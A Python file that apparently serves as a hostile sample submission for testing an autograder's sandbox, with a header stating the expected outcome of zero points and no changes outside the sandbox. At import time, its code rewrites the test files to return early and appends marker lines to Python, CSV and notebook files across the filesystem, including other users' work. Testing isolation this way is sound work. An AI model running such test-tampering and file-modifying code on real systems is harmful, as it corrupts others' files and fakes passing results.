# Attack (issue 20): rewrite the test files on disk before they run (insert `return`
# into every test), and write a marker file into every folder it can reach (the
# instructor's repository, the grades, other submissions). Expected: 0 points; no file
# outside its own sandbox folder changes.
import os
from pathlib import Path

import torch

for test in Path("tests").glob("*.py"):
    test.write_text(test.read_text().replace("):\n", "):\n    return\n", 1))
for root in ["/", "/work", "/root", "/tmp", "/home", "/sandbox/..", os.getcwd()]:
    for folder, dirs, files in os.walk(root):
        if folder.startswith(("/proc", "/sys", "/dev", "/usr", "/lib")) or "-packages" in folder:
            dirs[:] = []
            continue
        try:
            Path(folder, "HOSTILE_MARKER_h01").write_text("written by a submission")
        except OSError:
            pass
        for name in files:
            if name.endswith((".py", ".csv", ".ipynb")) and "HOSTILE" not in name:
                try:
                    with open(Path(folder, name), "a") as f:
                        f.write("\n# HOSTILE_MARKER_h01\n")
                except OSError:
                    pass


def unpool(pooled, switches, output_size):
    return torch.zeros(*pooled.shape[:2], *output_size)


def project(image, conv, channel, position):
    return torch.zeros_like(image)
